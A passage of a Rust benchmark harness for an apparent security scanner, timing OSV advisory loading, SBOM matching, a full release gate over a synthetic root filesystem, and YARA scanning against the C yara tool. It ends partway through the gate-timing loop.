//! Release-gate benchmarks (issue 5): matching an SBOM against the shared
//! advisories, the whole gate over a root filesystem, and YARA throughput
//! side by side with the C `yara` CLI.
//!
//! # Methodology
//!
//! Everything runs in this process through the libraries the server and
//! `bulwark scan` use; only the YARA reference is another program. Inputs
//! are generated from fixed seeds, so every run scans the same bytes.
//!
//! - **Advisories.** The OSV archives in
//!   `data/advisories/{pypa,golang,rustsec}/*.tar.gz` are imported once into
//!   an `AdvisoryDb` saved in a temporary directory (untimed). Then
//!   `AdvisoryDb::load` of that directory is timed: median of 3 loads (1
//!   with `--quick`).
//! - **SBOM match, warm.** 1,000 components named after packages the
//!   advisories cover (40 % PyPI, 30 % Go, 30 % crates.io, picked with a
//!   fixed seed). Every other one is at an old version: the package's first
//!   `introduced` event other than `0`, else its first listed affected
//!   version, else `0.1.0`. The rest are at the highest `fixed` version its
//!   advisories name, else `99.0.0`. Every component therefore has an
//!   advisory list to evaluate: a worst case, since a real SBOM has many
//!   components without advisories. After one warm-up scan,
//!   `AdvisoryDb::scan` is timed 50 times (10 with `--quick`). The median
//!   and the nearest-rank p99 are reported; the target applies to the p99.
//! - **Rootfs, full gate.** A root filesystem tar of about 200 MB (50 MB
//!   with `--quick`) is generated. It holds a dpkg status database of 500
//!   packages, 60 Python `dist-info` distributions, a `Cargo.lock` of 200
//!   crates, a `go.sum` of 100 modules (these three named and versioned
//!   from the advisories, as above), and a `package-lock.json` of 120 npm
//!   packages. It also holds about 2,500 small text files (configuration,
//!   shell scripts, Python sources, copyright files: a few MB that compress
//!   well). Executables and libraries fill it up to size: ELF-like files of
//!   random, zero, repeated and string blocks, plus about 10 % fully random
//!   "compressed" files. The tar is read once to warm the page cache. Then
//!   `bulwark_scan::scan_artifact` (extraction, the fixture YARA rules, the
//!   secret detectors, the component inventory), `bulwark_scan::findings`
//!   (OSV matching) and `bulwark_gate::evaluate` (the default policy) are
//!   timed end to end. The median of 3 runs is reported (1 with
//!   `--quick`). The rules are compiled and the advisories loaded
//!   beforehand, as the server holds them.
//! - **YARA vs `yara`.** The corpus is 200 files of 512 KiB (50 with
//!   `--quick`): 70 % random bytes, 15 % text logs (some with Mirai markers
//!   or the telnet credential table planted), 15 % ELF-like binaries, plus
//!   the `bulwark-yara` fixture files. The rules are
//!   `crates/bulwark-yara/tests/fixtures/rules`. Each file is compiled once
//!   by `bulwark-yara` (untimed), and passed as `ns:path` to `yara -e -w -p
//!   N … DIR`. All files are read once to warm the page cache. For N = 1
//!   and N = 2, each run times `bulwark_yara::scan_paths` (N threads) and
//!   then `yara -p N`, alternating, 3 times; the median of each is
//!   reported. `yara`'s time has its fixed cost subtracted: process start
//!   and rule compilation, measured as the median of 3 runs over one empty
//!   file. Every run's (namespace:rule, file) pairs must be identical on
//!   both sides; otherwise the suite fails.
//!
//! Progress goes to stderr, the table to stdout.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::File;
use std::io::{BufWriter, Read as _, Write as _};
use std::num::NonZeroUsize;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use anyhow::{Context as _, bail};
use bulwark_gate::{Policy, Stage, Subject, evaluate};
use bulwark_osv::AdvisoryDb;
use bulwark_sbom::{Component, ComponentEcosystem};
use bulwark_yara::Rules;
use time::OffsetDateTime;

use crate::stats;

/// `AdvisoryDb::scan` of the 1,000-component SBOM must take less than
/// this at the p99, in milliseconds.
const TARGET_MATCH_MS: f64 = 20.0;
/// Bulwark's YARA throughput must reach this multiple of `yara`'s.
const TARGET_YARA_RATIO: f64 = 1.0;
/// Components in the SBOM of the match benchmark.
const SBOM_COMPONENTS: usize = 1_000;
/// Runs of each side of the YARA comparison (and of the full gate and
/// the database load, without `--quick`); the median is reported.
const RUNS: usize = 3;
/// Per-file YARA timeout on both sides.
const YARA_TIMEOUT: Duration = Duration::from_secs(60);
/// Size of each file of the YARA corpus.
const YARA_FILE_BYTES: usize = 512 * 1024;
/// The advisory sources, under the advisories directory.
const SOURCES: [&str; 3] = ["pypa", "golang", "rustsec"];
/// One MB, the unit of the throughputs (decimal, like `GB/s` elsewhere).
const MB: f64 = 1e6;

/// Arguments of `bulwark-bench gate`.
#[derive(Debug, Clone, clap::Args)]
pub(crate) struct GateArgs {
    /// Small run: 10 match iterations, a 50 MB rootfs, a 25 MiB YARA
    /// corpus, one run of the full gate.
    #[arg(long)]
    pub(crate) quick: bool,
    /// Print only the markdown table on stdout.
    #[arg(long)]
    pub(crate) markdown: bool,
    /// The C YARA CLI to compare with (Debian package `yara`).
    #[arg(long, default_value = "yara")]
    pub(crate) yara: PathBuf,
    /// OSV archives, in `pypa/`, `golang/` and `rustsec/` subdirectories
    /// [default: the workspace's `data/advisories`].
    #[arg(long)]
    pub(crate) advisories: Option<PathBuf>,
    /// YARA rules directory [default: the workspace's
    /// `crates/bulwark-yara/tests/fixtures/rules`].
    #[arg(long)]
    pub(crate) rules: Option<PathBuf>,
    /// Keep the temporary directory (printed) instead of deleting it.
    #[arg(long)]
    pub(crate) keep: bool,
}

/// The workspace this binary was built from (for the default data paths).
fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// A seeded pseudo-random generator for benchmark data (SplitMix64; not
/// for anything secret).
#[derive(Debug)]
struct Rng(u64);

impl Rng {
    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`; the modulo bias is irrelevant here).
    fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    /// Log-uniform in `lo..hi`.
    fn log_uniform(&mut self, lo: usize, hi: usize) -> usize {
        let u = (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        let (l, h) = ((lo as f64).ln(), (hi as f64).ln());
        (l + u * (h - l)).exp() as usize
    }

    fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            let bytes = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        let mut v = vec![0; n];
        self.fill(&mut v);
        v
    }

    fn hex(&mut self, n: usize) -> String {
        (0..n.div_ceil(16))
            .map(|_| format!("{:016x}", self.next_u64()))
            .collect::<String>()[..n]
            .to_owned()
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }

    fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            items.swap(i, self.below(i + 1));
        }
    }
}

/// One row of the table.
#[derive(Debug)]
struct Row {
    benchmark: String,
    bulwark: String,
    peer: String,
    target: String,
    result: String,
}

impl Row {
    fn untargeted(benchmark: String, bulwark: String) -> Row {
        Row {
            benchmark,
            bulwark,
            peer: "—".into(),
            target: "—".into(),
            result: "—".into(),
        }
    }
}

fn met(ok: bool) -> &'static str {
    if ok { "met" } else { "NOT met" }
}

fn median(values: &mut [f64]) -> f64 {
    values.sort_by(f64::total_cmp);
    values.get(values.len() / 2).copied().unwrap_or(f64::NAN)
}

/// Runs the suite and prints the table.
pub(crate) fn run(args: GateArgs) -> anyhow::Result<ExitCode> {
    let advisories = args
        .advisories
        .clone()
        .unwrap_or_else(|| workspace().join("data/advisories"));
    let rules_dir = args
        .rules
        .clone()
        .unwrap_or_else(|| workspace().join("crates/bulwark-yara/tests/fixtures/rules"));
    let fixture_files = rules_dir.with_file_name("files");
    let work = tempfile::Builder::new().prefix("bulwark-gate-").tempdir()?;
    let work_path = work.path().to_path_buf();
    if args.keep {
        eprintln!("gate: keeping {}", work.keep().display());
    }
    let mut rows = Vec::new();

    // 1. Advisories: import once, then time the load.
    let (db, load_secs) = advisory_db(&advisories, &work_path.join("advisories"), args.quick)?;
    rows.push(Row::untargeted(
        format!(
            "gate: advisory database load (`AdvisoryDb::load`, {} advisories: PyPA, Go, RustSec; median of {})",
            db.len(),
            if args.quick { 1 } else { RUNS }
        ),
        format!("{:.0} ms", load_secs * 1e3),
    ));
    let catalog = Catalog::from_db(&db);
    eprintln!(
        "gate: advisories cover {} PyPI, {} Go, {} crates.io packages",
        catalog.pypi.len(),
        catalog.go.len(),
        catalog.crates.len()
    );

    // 2. SBOM match, warm.
    rows.push(sbom_match(&db, &catalog, if args.quick { 10 } else { 50 })?);

    // 3. The whole gate over a generated root filesystem.
    let rules =
        Rules::compile_dir(&rules_dir).with_context(|| format!("{}", rules_dir.display()))?;
    let rootfs_bytes: u64 = if args.quick { 50_000_000 } else { 200_000_000 };
    let runs = if args.quick { 1 } else { RUNS };
    rows.push(full_gate(
        &work_path,
        rootfs_bytes,
        &catalog,
        &rules,
        &db,
        runs,
    )?);
    drop(db);

    // 4. YARA throughput against the C CLI.
    let files = if args.quick { 50 } else { 200 };
    let corpus = yara_corpus(&work_path.join("yara-corpus"), files, &fixture_files)?;
    let rule_files = rule_files(&rules_dir)?;
    let version = yara_version(&args.yara)?;
    for threads in [1usize, 2] {
        rows.push(yara_vs_cli(
            &args.yara,
            &rules,
            &rule_files,
            &corpus,
            threads,
            &work_path,
            &version,
        )?);
    }

    let header = "| benchmark | bulwark | peer | target | result |\n|---|---|---|---|---|";
    let body: Vec<String> = rows
        .iter()
        .map(|r| {
            format!(
                "| {} | {} | {} | {} | {} |",
                r.benchmark, r.bulwark, r.peer, r.target, r.result
            )
        })
        .collect();
    if !args.markdown {
        println!("machine: {} CPUs ({})", stats::cpus(), stats::cpu_model());
    }
    println!("{header}\n{}", body.join("\n"));
    Ok(ExitCode::SUCCESS)
}

// ---------------------------------------------------------------------------
// Advisories and the SBOM

/// Imports every archive of [`SOURCES`] into a database saved at `dir`,
/// then loads it back (timed). Returns the loaded database and the median
/// load time in seconds.
fn advisory_db(advisories: &Path, dir: &Path, quick: bool) -> anyhow::Result<(AdvisoryDb, f64)> {
    let mut db = AdvisoryDb::new();
    for source in SOURCES {
        let sub = advisories.join(source);
        let mut archives: Vec<PathBuf> = std::fs::read_dir(&sub)
            .with_context(|| format!("{}", sub.display()))?
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.to_string_lossy().ends_with(".tar.gz"))
            .collect();
        archives.sort();
        anyhow::ensure!(
            !archives.is_empty(),
            "{} holds no OSV archive",
            sub.display()
        );
        for archive in archives {
            let t = Instant::now();
            let report = db
                .import_path(&archive)
                .with_context(|| format!("importing {}", archive.display()))?;
            eprintln!(
                "gate: imported {} ({} advisories, {} skipped) in {:.2} s",
                archive.display(),
                report.imported,
                report.skipped,
                t.elapsed().as_secs_f64()
            );
        }
    }
    std::fs::create_dir_all(dir)?;
    db.save(dir)?;
    let count = db.len();
    drop(db);
    let mut times = Vec::new();
    let mut loaded = None;
    for _ in 0..if quick { 1 } else { RUNS } {
        drop(loaded.take());
        let t = Instant::now();
        let db = AdvisoryDb::load(dir)?;
        times.push(t.elapsed().as_secs_f64());
        loaded = Some(db);
    }
    let db = loaded.context("no load ran")?;
    anyhow::ensure!(db.len() == count, "loaded {} of {count}", db.len());
    Ok((db, median(&mut times)))
}

/// A package the advisories cover, with an affected and a fixed version.
#[derive(Debug, Clone)]
struct Package {
    name: String,
    /// An affected version (see the module docs).
    old: String,
    /// The highest fixed version named, if any.
    current: String,
}

/// The packages the advisories cover, by ecosystem, sorted by name.
#[derive(Debug, Default)]
struct Catalog {
    pypi: Vec<Package>,
    go: Vec<Package>,
    crates: Vec<Package>,
}

/// A version's numeric fields, for picking the highest fixed version
/// without an ecosystem's full ordering.
fn numeric_key(version: &str) -> Vec<u64> {
    version
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty())
        .map(|s| s.parse().unwrap_or(u64::MAX))
        .collect()
}

impl Catalog {
    fn from_db(db: &AdvisoryDb) -> Catalog {
        #[derive(Default)]
        struct Seen {
            old: Option<String>,
            fixed: Option<String>,
        }
        let mut seen: BTreeMap<(String, String), Seen> = BTreeMap::new();
        let mut ids: Vec<&str> = db.advisories().map(|a| a.id.as_str()).collect();
        ids.sort_unstable();
        for id in ids {
            let Some(advisory) = db.get(id) else { continue };
            if advisory.withdrawn.is_some() {
                continue;
            }
            for affected in &advisory.affected {
                let Some(package) = &affected.package else {
                    continue;
                };
                if !matches!(package.ecosystem.as_str(), "PyPI" | "Go" | "crates.io")
                    || matches!(package.name.as_str(), "stdlib" | "toolchain")
                {
                    continue;
                }
                let entry = seen
                    .entry((package.ecosystem.clone(), package.name.clone()))
                    .or_default();
                for event in affected.ranges.iter().flat_map(|r| &r.events) {
                    if entry.old.is_none()
                        && let Some(v) = event.introduced.as_deref().filter(|v| *v != "0")
                    {
                        entry.old = Some(v.to_owned());
                    }
                    if let Some(v) = &event.fixed {
                        // Plain release numbers only (no pre-releases,
                        // pseudo-versions or commits).
                        let plain = v.chars().all(|c| c.is_ascii_digit() || c == '.');
                        if plain
                            && entry
                                .fixed
                                .as_deref()
                                .is_none_or(|f| numeric_key(v) > numeric_key(f))
                        {
                            entry.fixed = Some(v.clone());
                        }
                    }
                }
                if entry.old.is_none() {
                    entry.old = affected.versions.first().cloned();
                }
            }
        }
        let mut catalog = Catalog::default();
        for ((ecosystem, name), s) in seen {
            let package = Package {
                name,
                old: s.old.unwrap_or_else(|| "0.1.0".into()),
                current: s.fixed.unwrap_or_else(|| "99.0.0".into()),
            };
            match ecosystem.as_str() {
                "PyPI" => catalog.pypi.push(package),
                "Go" => catalog.go.push(package),
                _ => catalog.crates.push(package),
            }
        }
        catalog
    }

    /// `count` packages of each ecosystem (as many as there are), picked
    /// with `rng`.
    fn pick(&self, rng: &mut Rng, counts: [usize; 3]) -> [Vec<Package>; 3] {
        let mut take = |from: &[Package], n: usize| {
            let mut all = from.to_vec();
            rng.shuffle(&mut all);
            all.truncate(n);
            all
        };
        [
            take(&self.pypi, counts[0]),
            take(&self.go, counts[1]),
            take(&self.crates, counts[2]),
        ]
    }
}

/// The version a component of `ecosystem` records (Go modules carry `v`).
fn component_version(ecosystem: ComponentEcosystem, version: &str) -> String {
    match ecosystem {
        ComponentEcosystem::Golang if !version.starts_with('v') => format!("v{version}"),
        _ => version.to_owned(),
    }
}

/// The SBOM of the match benchmark: [`SBOM_COMPONENTS`] components, every
/// other one at an affected version.
fn sbom(catalog: &Catalog) -> anyhow::Result<Vec<Component>> {
    let mut rng = Rng(0x5B0A_2026);
    let n = SBOM_COMPONENTS;
    let [pypi, go, crates] = catalog.pick(&mut rng, [n * 4 / 10, n * 3 / 10, n * 3 / 10]);
    let mut components = Vec::with_capacity(n);
    for (ecosystem, packages) in [
        (ComponentEcosystem::Pypi, pypi),
        (ComponentEcosystem::Golang, go),
        (ComponentEcosystem::Cargo, crates),
    ] {
        for (i, p) in packages.iter().enumerate() {
            let version = if i.is_multiple_of(2) {
                &p.old
            } else {
                &p.current
            };
            components.push(Component::new(
                ecosystem,
                p.name.clone(),
                component_version(ecosystem, version),
                &[],
            ));
        }
    }
    anyhow::ensure!(
        components.len() == n,
        "the advisories cover too few packages for a {n}-component SBOM ({} found)",
        components.len()
    );
    rng.shuffle(&mut components);
    Ok(components)
}

fn sbom_match(db: &AdvisoryDb, catalog: &Catalog, iterations: usize) -> anyhow::Result<Row> {
    let components = sbom(catalog)?;
    let warm = db.scan(&components);
    let affected: BTreeSet<usize> = warm
        .iter()
        .filter_map(|f| components.iter().position(|c| c.purl == f.purl))
        .collect();
    eprintln!(
        "gate: SBOM of {} components: {} findings on {} components",
        components.len(),
        warm.len(),
        affected.len()
    );
    let mut micros: Vec<u32> = Vec::with_capacity(iterations);
    for _ in 0..iterations {
        let t = Instant::now();
        let findings = db.scan(&components);
        micros.push(u32::try_from(t.elapsed().as_micros()).unwrap_or(u32::MAX));
        anyhow::ensure!(
            findings.len() == warm.len(),
            "findings changed between runs"
        );
        std::hint::black_box(findings);
    }
    micros.sort_unstable();
    let ms = |p: f64| stats::percentile(&micros, p).map_or(f64::NAN, |us| f64::from(us) / 1e3);
    let (p50, p99) = (ms(50.0), ms(99.0));
    Ok(Row {
        benchmark: format!(
            "gate: SBOM match, warm (`AdvisoryDb::scan`, {} components from PyPI/Go/crates.io advisories, half at affected versions; {} findings; median / p99 of {iterations})",
            components.len(),
            warm.len()
        ),
        bulwark: format!("{p50:.2} ms / {p99:.2} ms"),
        peer: "—".into(),
        target: format!("p99 < {TARGET_MATCH_MS:.0} ms"),
        result: met(p99 < TARGET_MATCH_MS).into(),
    })
}

// ---------------------------------------------------------------------------
// The root filesystem and the full gate

/// Writes a tar, adding parent directories before their files.
struct TarOut {
    builder: tar::Builder<BufWriter<File>>,
    dirs: BTreeSet<String>,
    files: u64,
    bytes: u64,
}

impl std::fmt::Debug for TarOut {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TarOut")
            .field("files", &self.files)
            .field("bytes", &self.bytes)
            .finish_non_exhaustive()
    }
}

/// Modification time of every entry (fixed, so the tar is reproducible).
const MTIME: u64 = 1_767_225_600;

impl TarOut {
    fn create(path: &Path) -> anyhow::Result<TarOut> {
        let file = File::create(path).with_context(|| format!("{}", path.display()))?;
        Ok(TarOut {
            builder: tar::Builder::new(BufWriter::with_capacity(1 << 20, file)),
            dirs: BTreeSet::new(),
            files: 0,
            bytes: 0,
        })
    }

    fn dir(&mut self, path: &str) -> anyhow::Result<()> {
        if path.is_empty() || self.dirs.contains(path) {
            return Ok(());
        }
        if let Some((parent, _)) = path.rsplit_once('/') {
            self.dir(parent)?;
        }
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Directory);
        h.set_mode(0o755);
        h.set_size(0);
        h.set_mtime(MTIME);
        self.builder
            .append_data(&mut h, format!("{path}/"), std::io::empty())?;
        self.dirs.insert(path.to_owned());
        self.bytes += 512;
        Ok(())
    }

    fn file(&mut self, path: &str, mode: u32, data: &[u8]) -> anyhow::Result<()> {
        if let Some((parent, _)) = path.rsplit_once('/') {
            self.dir(parent)?;
        }
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Regular);
        h.set_mode(mode);
        h.set_size(data.len() as u64);
        h.set_mtime(MTIME);
        self.builder.append_data(&mut h, path, data)?;
        self.files += 1;
        self.bytes += 512 + (data.len() as u64).div_ceil(512) * 512;
        Ok(())
    }

    fn finish(self) -> anyhow::Result<u64> {
        let mut w = self.builder.into_inner()?;
        w.flush()?;
        Ok(self.files)
    }
}

/// Words for generated text (configuration, logs, documentation).
static WORDS: LazyLock<Vec<&str>> = LazyLock::new(|| {
    "the device service network interface config enable disable timeout retry server client \
     update firmware sensor gateway mqtt broker topic publish subscribe certificate key path \
     file log level info debug warning error daemon start stop restart socket port address \
     route bridge wireless channel power battery voltage temperature humidity interval \
     seconds buffer size queue worker thread memory cache storage partition mount kernel \
     module driver watchdog reset license copyright software permission granted without \
     warranty any kind express implied including limited merchantability fitness for a \
     particular purpose and or of to in is with on by this"
        .split_whitespace()
        .collect()
});

/// Real Debian package names for the start of the dpkg database.
static DEBIAN_NAMES: LazyLock<Vec<&str>> = LazyLock::new(|| {
    "base-files base-passwd bash busybox bzip2 ca-certificates coreutils curl dash debconf \
     debianutils diffutils dpkg e2fsprogs findutils gcc-12-base gpgv grep gzip hostname \
     init-system-helpers iproute2 iputils-ping libacl1 libattr1 libaudit1 libblkid1 \
     libbz2-1.0 libc-bin libc6 libcap2 libcom-err2 libcrypt1 libcurl4 libdb5.3 libffi8 \
     libgcc-s1 libgcrypt20 libgmp10 libgnutls30 libgpg-error0 libidn2-0 liblz4-1 liblzma5 \
     libmount1 libncursesw6 libnettle8 libnghttp2-14 libp11-kit0 libpam0g libpcre2-8-0 \
     libpsl5 libselinux1 libsqlite3-0 libssl3 libstdc++6 libsystemd0 libtasn1-6 libtinfo6 \
     libudev1 libunistring2 libuuid1 libzstd1 login mawk mount ncurses-base openssh-client \
     openssl passwd perl-base python3 python3.11 sed systemd sysvinit-utils tar tzdata \
     util-linux zlib1g mosquitto dropbear hostapd wpasupplicant dnsmasq iptables nftables \
     chrony"
        .split_whitespace()
        .collect()
});

/// Real npm package names for the lockfile (no npm advisories are loaded).
static NPM_NAMES: LazyLock<Vec<&str>> = LazyLock::new(|| {
    "lodash express react react-dom minimist axios chalk commander debug semver uuid ws yargs \
     moment body-parser cookie qs mime glob rimraf mkdirp async bluebird underscore jquery \
     vue typescript webpack babel-core eslint"
        .split_whitespace()
        .collect()
});

/// Space-separated words, about `len` bytes, in lines of 6–14 words.
fn text(rng: &mut Rng, len: usize, prefix: &str) -> String {
    let mut out = String::with_capacity(len + 80);
    while out.len() < len {
        out.push_str(prefix);
        for i in 0..6 + rng.below(9) {
            if i > 0 {
                out.push(' ');
            }
            out.push_str(rng.pick(&WORDS));
        }
        out.push('\n');
    }
    out
}

/// An executable or library: an ELF-like header, then 4 KiB blocks of
/// random bytes, zeros, a repeated 16-byte pattern or NUL-separated words.
fn binary(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(size);
    out.extend_from_slice(b"\x7fELF\x02\x01\x01\0");
    out.resize(64, 0);
    while out.len() < size {
        let n = 4096.min(size - out.len());
        match rng.below(100) {
            0..55 => out.extend(rng.bytes(n)),
            55..70 => out.resize(out.len() + n, 0),
            70..90 => {
                let pattern = rng.bytes(16);
                out.extend(pattern.iter().cycle().take(n));
            }
            _ => {
                let start = out.len();
                while out.len() < start + n {
                    out.extend_from_slice(rng.pick(&WORDS).as_bytes());
                    out.push(0);
                }
                out.truncate(start + n);
            }
        }
    }
    out
}

/// Generates the root filesystem tar (see the module docs); returns its
/// regular files' count.
fn rootfs(path: &Path, size: u64, catalog: &Catalog) -> anyhow::Result<u64> {
    let mut rng = Rng(0x0200_3BF5);
    let mut tar = TarOut::create(path)?;
    let scale = (size as f64 / 200e6).clamp(0.05, 10.0);
    let [pypi, go, crates] = catalog.pick(&mut rng, [60, 100, 200]);
    fn version_of(i: usize, p: &Package) -> &str {
        if i.is_multiple_of(2) {
            &p.old
        } else {
            &p.current
        }
    }

    // dpkg: the status database and one file list per package.
    let mut status = String::new();
    for i in 0..500 {
        let name = match DEBIAN_NAMES.get(i) {
            Some(n) => (*n).to_owned(),
            None => format!("lib{}{}-{i}", rng.pick(&WORDS), rng.pick(&WORDS)),
        };
        let version = format!(
            "{}.{}.{}-{}",
            rng.below(10),
            rng.below(30),
            rng.below(20),
            1 + rng.below(5)
        );
        status.push_str(&format!(
            "Package: {name}\nStatus: install ok installed\nPriority: optional\nSection: libs\n\
             Installed-Size: {}\nMaintainer: Bench Maintainers <bench@example.invalid>\n\
             Architecture: arm64\nMulti-Arch: same\nVersion: {version}\n\
             Depends: libc6 (>= 2.36)\nDescription: {}\n {}\n\n",
            16 + rng.below(4000),
            text(&mut rng, 30, "").trim(),
            text(&mut rng, 120, "").trim().replace('\n', "\n "),
        ));
        let list: String = (0..4 + rng.below(20))
            .map(|j| format!("/usr/lib/{name}/{}-{j}\n", rng.pick(&WORDS)))
            .collect();
        tar.file(
            &format!("var/lib/dpkg/info/{name}.list"),
            0o644,
            list.as_bytes(),
        )?;
    }
    tar.file("var/lib/dpkg/status", 0o644, status.as_bytes())?;

    // Python distributions, each with metadata and a few sources.
    let site = "usr/lib/python3/dist-packages";
    for (i, p) in pypi.iter().enumerate() {
        let version = version_of(i, p);
        let dist = p.name.replace(['-', '.'], "_");
        let info = format!("{site}/{dist}-{version}.dist-info");
        let metadata = format!(
            "Metadata-Version: 2.1\nName: {}\nVersion: {version}\nSummary: {}\n\
             Requires-Python: >=3.8\n\n{}",
            p.name,
            text(&mut rng, 40, "").trim(),
            text(&mut rng, 1500, "")
        );
        tar.file(&format!("{info}/METADATA"), 0o644, metadata.as_bytes())?;
        tar.file(
            &format!("{info}/WHEEL"),
            0o644,
            b"Wheel-Version: 1.0\nGenerator: bdist_wheel\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )?;
        let mut record = String::new();
        for j in 0..3 {
            let len = 2000 + rng.below(6000);
            let source = text(&mut rng, len, "# ");
            let file = format!("{dist}/{}_{j}.py", rng.pick(&WORDS));
            record.push_str(&format!("{file},sha256={},{}\n", rng.hex(43), source.len()));
            tar.file(&format!("{site}/{file}"), 0o644, source.as_bytes())?;
        }
        tar.file(&format!("{info}/RECORD"), 0o644, record.as_bytes())?;
    }

    // Lockfiles of the services on the device.
    let mut cargo_lock = String::from(
        "# This file is automatically @generated by Cargo.\n# It is not intended for manual editing.\nversion = 4\n",
    );
    for (i, p) in crates.iter().enumerate() {
        cargo_lock.push_str(&format!(
            "\n[[package]]\nname = \"{}\"\nversion = \"{}\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{}\"\n",
            p.name,
            version_of(i, p),
            rng.hex(64)
        ));
    }
    tar.file("opt/edge-agent/Cargo.lock", 0o644, cargo_lock.as_bytes())?;
    let mut go_sum = String::new();
    for (i, p) in go.iter().enumerate() {
        let v = component_version(ComponentEcosystem::Golang, version_of(i, p));
        go_sum.push_str(&format!(
            "{} {v} h1:{}=\n{} {v}/go.mod h1:{}=\n",
            p.name,
            rng.hex(43),
            p.name,
            rng.hex(43)
        ));
    }
    tar.file("opt/collector/go.sum", 0o644, go_sum.as_bytes())?;
    let mut packages = serde_json::Map::new();
    packages.insert(
        String::new(),
        serde_json::json!({"name": "webui", "version": "1.0.0"}),
    );
    for i in 0..120 {
        let name = match NPM_NAMES.get(i) {
            Some(n) => (*n).to_owned(),
            None => format!("{}-{}-{i}", rng.pick(&WORDS), rng.pick(&WORDS)),
        };
        let version = format!("{}.{}.{}", rng.below(8), rng.below(20), rng.below(15));
        packages.insert(
            format!("node_modules/{name}"),
            serde_json::json!({
                "version": version,
                "resolved": format!("https://registry.npmjs.org/{name}/-/{name}-{version}.tgz"),
                "integrity": format!("sha512-{}", rng.hex(86)),
            }),
        );
    }
    let lock = serde_json::json!({
        "name": "webui", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": packages,
    });
    tar.file(
        "opt/webui/package-lock.json",
        0o644,
        &serde_json::to_vec_pretty(&lock)?,
    )?;

    // Small text files: configuration, scripts, sources, documentation.
    let text_files = (2_500.0 * scale) as usize;
    for i in 0..text_files {
        let (path, mode, prefix) = match i % 5 {
            0 => (
                format!("etc/{}/{}-{i}.conf", rng.pick(&WORDS), rng.pick(&WORDS)),
                0o644,
                "",
            ),
            1 => (format!("usr/sbin/{}-{i}", rng.pick(&WORDS)), 0o755, "# "),
            2 => (
                format!("usr/share/doc/{}/copyright-{i}", rng.pick(&DEBIAN_NAMES)),
                0o644,
                "",
            ),
            3 => (
                format!("usr/lib/python3/dist-packages/{}/{i}.py", rng.pick(&WORDS)),
                0o644,
                "# ",
            ),
            _ => (
                format!(
                    "usr/share/{}/{}-{i}.txt",
                    rng.pick(&WORDS),
                    rng.pick(&WORDS)
                ),
                0o644,
                "",
            ),
        };
        let mut body = if mode == 0o755 {
            String::from("#!/bin/sh\nset -e\n")
        } else {
            String::new()
        };
        let len = rng.log_uniform(200, 8000);
        body.push_str(&text(&mut rng, len, prefix));
        tar.file(&path, mode, body.as_bytes())?;
    }

    // Executables and libraries up to the size.
    let mut i = 0usize;
    while tar.bytes < size {
        let left = (size - tar.bytes) as usize;
        let len = rng.log_uniform(8 << 10, 2 << 20).min(left.max(4096));
        let (path, data) = match rng.below(10) {
            0 => (
                format!("usr/share/{}/{}-{i}.gz", rng.pick(&WORDS), rng.pick(&WORDS)),
                rng.bytes(len),
            ),
            1..5 => (
                format!("usr/bin/{}-{i}", rng.pick(&WORDS)),
                binary(&mut rng, len),
            ),
            _ => (
                format!(
                    "usr/lib/aarch64-linux-gnu/lib{}-{i}.so.{}",
                    rng.pick(&WORDS),
                    rng.below(4)
                ),
                binary(&mut rng, len),
            ),
        };
        tar.file(&path, 0o755, &data)?;
        i += 1;
    }
    tar.finish()
}

/// Reads a file to the end (warms the page cache).
fn read_through(path: &Path) -> anyhow::Result<u64> {
    let mut f = File::open(path)?;
    let mut buf = vec![0u8; 1 << 20];
    let mut total = 0u64;
    loop {
        let n = f.read(&mut buf)?;
        if n == 0 {
            return Ok(total);
        }
        total += n as u64;
    }
}

fn full_gate(
    work: &Path,
    size: u64,
    catalog: &Catalog,
    rules: &Rules,
    db: &AdvisoryDb,
    runs: usize,
) -> anyhow::Result<Row> {
    let path = work.join("rootfs.tar");
    let t = Instant::now();
    let files = rootfs(&path, size, catalog)?;
    let bytes = read_through(&path)?;
    eprintln!(
        "gate: generated {} ({files} files, {:.1} MB) in {:.1} s",
        path.display(),
        bytes as f64 / MB,
        t.elapsed().as_secs_f64()
    );
    let policy = Policy::default();
    let limits = bulwark_extract::Limits::default();
    let release = "rootfs@bench";
    #[expect(
        clippy::disallowed_methods,
        reason = "benchmark harness: the gate judged as of now"
    )]
    let now = OffsetDateTime::now_utc();
    let mut times = Vec::new();
    let mut summary = String::new();
    for run in 0..runs {
        let t = Instant::now();
        let scan = bulwark_scan::scan_artifact(&path, release, Some(rules), &limits)
            .context("scanning the rootfs")?;
        let (findings, _notices) = bulwark_scan::findings(&scan, db);
        let verdict = evaluate(
            &policy,
            1,
            Subject {
                release,
                components: scan.sbom.components.len() as u64,
                findings: &findings,
                stage: Stage::Sign,
                unreadable: None,
                advisories: bulwark_gate::AdvisoryInput {
                    count: db.len() as u64,
                    updated_at: db.updated_at(),
                },
            },
            &[],
            now,
        );
        let secs = t.elapsed().as_secs_f64();
        times.push(secs);
